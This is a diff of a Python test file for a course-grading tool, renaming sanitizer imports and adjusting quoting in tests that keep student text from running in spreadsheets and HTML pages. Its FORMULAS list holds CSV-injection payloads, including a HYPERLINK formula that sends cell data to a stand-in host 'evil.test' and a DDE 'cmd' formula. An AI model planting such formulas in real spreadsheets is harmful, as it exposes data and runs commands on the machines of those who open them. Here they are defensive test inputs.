@@ -14,8 +14,9 @@ from PIL import Image
 from results import POINTS, SLUG, cell, open_question, png, question, real, result
 
 from course.language import LANGUAGES, words
-from staff.grade import harmless, page, report
-from staff.grade.pictures import picture
+from grading import sanitize
+from grading.deliver import page, report
+from grading.deliver.pictures import picture
 
 FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil.test/"&A1,"x")', "=cmd|'/C calc'!A0",
             "\t=1+1", " =1+1", "\r=1+1", "\n=1+1", "\r\n\t =1+1", "\x00=1+1", "\x0b=1+1", "\xa0=1+1", "\u3000=1+1",
@@ -46,7 +47,7 @@ def hostile_result(text):
 
 @pytest.mark.parametrize("lang", LANGUAGES)
 def test_a_row_for_each_student_and_a_column_for_each_exercise(tmp_path, lang):
-    results = [real("张三", "zh", probability="unclipped"), real("李, \"四\"", "en", draw_spikes="at_most")]
+    results = [real("张三", "zh", probability="unclipped"), real('李, "四"', "en", draw_spikes="at_most")]
     results[1]["id"] = "b"
     table = rows(written(tmp_path, results, lang))
     assert table[0][6:11] == [f"{SLUG}/{name}" for name in POINTS[SLUG]]
@@ -107,7 +108,7 @@ def test_no_formula_runs(tmp_path, text):
 
 def test_numbers_and_plain_text_stay_as_they_are():
     for text in ("2024-05-01", "a-b", "Anne-Marie", "x = 3", "张三", "", "C++", "me@there"):
-        assert harmless.cell(text) == text
+        assert sanitize.cell(text) == text
 
 
 # ---- feedback
@@ -162,7 +163,7 @@ def test_nothing_of_a_submission_comes_alive(tmp_path, opened, text):
     assert tab.locator("img").count() == 3  # the true pictures; the false ones are left out, and it says so
     assert tab.evaluate("[...document.images].every(one => one.complete && one.naturalWidth > 0)")
     shown = tab.locator(".cell").first.inner_text()
-    assert all(line.strip() in shown for line in harmless.text(text).split("\n"))
+    assert all(line.strip() in shown for line in sanitize.text(text).split("\n"))
 
 
 @pytest.mark.parametrize("name", ["class.html", "feedback/failed.html", "feedback/hostile.html"])
@@ -214,7 +215,7 @@ def test_a_submission_that_was_not_graded_hears_why_and_what_to_do(tmp_path):
     table = words("en")["report"]
     assert table["not_graded"] in content
     assert table["hand_in_again"] in content
-    assert harmless.line(words("en").get("grade", {}).get("bad_zip", "bad_zip")) in content
+    assert sanitize.line(words("en").get("grade", {}).get("bad_zip", "bad_zip")) in content
     assert 'class="score"' not in content
 
 
@@ -230,7 +231,7 @@ def test_markdown_keeps_what_is_harmless():
     assert "<strong>bold</strong>" in shown
     assert '<a href="https://a.org" rel="noopener noreferrer nofollow">web</a>' in shown
     assert "<a>there</a> &lt;b&gt;" in shown
-    assert "<td><span class=\"math inline\">a_1 &lt; b_2</span></td>" in shown
+    assert '<td><span class="math inline">a_1 &lt; b_2</span></td>' in shown
 
 
 def _chunk(kind, content):
@@ -297,7 +298,7 @@ def test_the_class_page_counts_misconceptions(tmp_path, opened, lang):
 
 def test_a_sentence_with_a_learners_numbers_is_told_without_them(monkeypatch):
     monkeypatch.setitem(words("en"), "exercise_few", {"many": "That makes {share} % of {all}."})
-    from staff.grade.words import misconception
+    from grading.deliver.words import misconception
 
     assert misconception("few", "many", "en") == "That makes … % of …."
 
